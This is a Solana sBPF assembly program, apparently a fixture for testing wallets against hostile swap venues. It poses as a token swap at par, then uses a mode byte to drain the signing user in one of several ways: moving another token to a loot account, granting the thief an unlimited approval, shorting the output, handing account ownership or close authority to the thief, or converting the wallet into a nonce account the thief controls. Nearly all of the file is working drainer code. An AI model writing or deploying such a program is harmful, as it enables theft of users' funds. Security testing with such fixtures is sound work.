; A venue that swaps at par, and does one thing beside it that a byte of its own account selects.
; Account indexes, as in a swap of the SPL token-swap program; pool mint and fee account are replaced.
.equ STATE, 0
.equ THIEF, 1
.equ PERSON, 2
.equ SOLD, 3
.equ VAULT_IN, 4
.equ VAULT_OUT, 5
.equ BOUGHT, 6
.equ OTHER, 7
.equ LOOT, 8
.equ TOKEN, 9
; Behind them, where the wallet is to be taken: System, recent blockhashes, rent.
.equ TRANSFER, 3        ; instructions of SPL Token
.equ APPROVE, 4
.equ SET_AUTHORITY, 6
.equ OWNER_OF_ACCOUNT, 2
.equ CLOSE_ACCOUNT, 3
.equ TAKES_OTHER_TOKEN, 1 ; the byte of the state that decides: MODES of hostile-venue.ts
.equ APPROVES_THIEF, 2
.equ TAKES_MORE, 3
.equ PAYS_LESS, 4
.equ TAKES_ACCOUNT, 5
.equ MAY_CLOSE, 6
.equ TAKES_WALLET, 7
.equ ALLOCATE, 8        ; instructions of System
.equ INITIALIZE_NONCE, 6
.equ NONCE_BYTES, 80
.equ TAKEN, 500
.equ SHORT, 200001
; A call, behind the accounts in the heap: instruction (40 bytes), three metas, data, the seed of the state's address.
.equ CALL, 0x4000
.equ METAS, 64
.equ CALL_DATA, 128
.equ SEED, 192
.equ SEEDS, 200
.equ SIGNERS, 216

.globl entrypoint
entrypoint:
  call read_input
  lddw r9, HEAP         ; r9: accounts, r8: amount, r7: the byte that decides, r6: where a call is put together
  ldxdw r8, [r9+DATA]
  ldxdw r8, [r8+1]      ; amount in, behind the number of the instruction
  mov64 r6, r9
  add64 r6, CALL
  add64 r9, INFOS
  ldxdw r7, [r9+ACCOUNT_DATA]
  ldxb r7, [r7+0]
  mov64 r1, TRANSFER
  mov64 r2, r8
  mov64 r3, SOLD
  mov64 r4, VAULT_IN
  mov64 r5, PERSON
  call move_token
  jne r0, 0, end
  jne r7, PAYS_LESS, at_par
  sub64 r8, SHORT
at_par:
  mov64 r1, TRANSFER
  mov64 r2, r8
  mov64 r3, VAULT_OUT
  mov64 r4, BOUGHT
  mov64 r5, STATE
  call move_token
  jne r0, 0, end
  mov64 r5, PERSON
  jeq r7, TAKES_OTHER_TOKEN, take_other_token
  jeq r7, APPROVES_THIEF, approve_thief
  jeq r7, TAKES_MORE, take_more
  jeq r7, TAKES_ACCOUNT, take_account
  jeq r7, MAY_CLOSE, let_close
  jeq r7, TAKES_WALLET, take_wallet
end:
  exit
take_other_token:
  mov64 r1, TRANSFER
  mov64 r2, TAKEN
  mov64 r3, OTHER
  mov64 r4, LOOT
  call move_token
  exit
approve_thief:
  mov64 r1, APPROVE
  mov64 r2, -1           ; without a limit
  mov64 r3, SOLD
  mov64 r4, THIEF
  call move_token
  exit
take_more:
  mov64 r1, TRANSFER
  mov64 r2, 1
  mov64 r3, SOLD
  mov64 r4, VAULT_IN
  call move_token
  exit
take_account:
  mov64 r2, OWNER_OF_ACCOUNT
  mov64 r3, OTHER
  call set_authority
  exit
let_close:
  mov64 r2, CLOSE_ACCOUNT
  mov64 r3, SOLD
  call set_authority
  exit
; Makes the wallet a nonce account of the thief, who may withdraw all of it.
take_wallet:
  stw [r6+CALL_DATA], ALLOCATE
  stdw [r6+132], NONCE_BYTES
  mov64 r1, 12
  call call_system
  jne r0, 0, end
  stw [r6+CALL_DATA], INITIALIZE_NONCE
  ldxdw r2, [r9+56]     ; key of THIEF
  ldxdw r1, [r2+0]
  stxdw [r6+132], r1
  ldxdw r1, [r2+8]
  stxdw [r6+140], r1
  ldxdw r1, [r2+16]
  stxdw [r6+148], r1
  ldxdw r1, [r2+24]
  stxdw [r6+156], r1
  mov64 r1, 36
  call call_system
  exit

; r1 instruction, r2 amount, r3 from, r4 to, r5 who signs (numbers of accounts).
move_token:
  stxb [r6+CALL_DATA], r1
  stxdw [r6+129], r2
  mov64 r1, 9
  call call_token
  exit

; Gives the thief the authority r2 over account r3. The person, who signs, is named twice: more signers change nothing.
set_authority:
  stb [r6+CALL_DATA], SET_AUTHORITY
  stxb [r6+129], r2
  stb [r6+130], 1
  ldxdw r2, [r9+56]     ; key of THIEF
  ldxdw r1, [r2+0]
  stxdw [r6+131], r1
  ldxdw r1, [r2+8]
  stxdw [r6+139], r1
  ldxdw r1, [r2+16]
  stxdw [r6+147], r1
  ldxdw r1, [r2+24]
  stxdw [r6+155], r1
  mov64 r1, 35
  mov64 r4, PERSON
  call call_token
  exit

; Calls SPL Token with r1 bytes of data and the accounts r3, r4 and r5, of which the first is written and the last signs.
call_token:
  stxdw [r6+32], r1
  mul64 r3, INFO_BYTES
  add64 r3, r9
  ldxdw r3, [r3+KEY]
  stxdw [r6+METAS], r3
  sth [r6+72], 0x0001   ; writable
  mul64 r4, INFO_BYTES
  add64 r4, r9
  ldxdw r3, [r4+KEY]
  stxdw [r6+80], r3
  ldxb r3, [r4+IS_WRITABLE]
  sth [r6+88], 0
  stxb [r6+88], r3
  mul64 r5, INFO_BYTES
  add64 r5, r9
  ldxdw r3, [r5+KEY]
  stxdw [r6+96], r3
  sth [r6+104], 0x0100  ; signer
  ldxdw r3, [r9+504]    ; key of TOKEN
call_program:
  stxdw [r6+0], r3
  mov64 r3, r6
  add64 r3, METAS
  stxdw [r6+8], r3
  stdw [r6+16], 3
  mov64 r3, r6
  add64 r3, CALL_DATA
  stxdw [r6+24], r3
  ldxdw r3, [r9+ACCOUNT_DATA]
  ldxb r3, [r3+1]       ; the bump is the only seed
  stxb [r6+SEED], r3
  mov64 r3, r6
  add64 r3, SEED
  stxdw [r6+SEEDS], r3
  stdw [r6+208], 1
  mov64 r3, r6
  add64 r3, SEEDS
  stxdw [r6+SIGNERS], r3
  stdw [r6+224], 1
  mov64 r1, r6
  mov64 r2, r9
  lddw r3, HEAP
  ldxdw r3, [r3+0]
  mov64 r4, r6
  add64 r4, SIGNERS
  mov64 r5, 1
  call sol_invoke_signed_c
  exit

; Calls System with r1 bytes of data, the person, who signs, and both sysvars.
call_system:
  stxdw [r6+32], r1
  ldxdw r3, [r9+112]    ; key of PERSON
  stxdw [r6+METAS], r3
  sth [r6+72], 0x0101   ; writable, signer
  ldxdw r3, [r9+616]    ; key of the recent blockhashes
  stxdw [r6+80], r3
  sth [r6+88], 0
  ldxdw r3, [r9+672]    ; key of the rent
  stxdw [r6+96], r3
  sth [r6+104], 0
  ldxdw r3, [r9+560]    ; key of System
  ja call_program
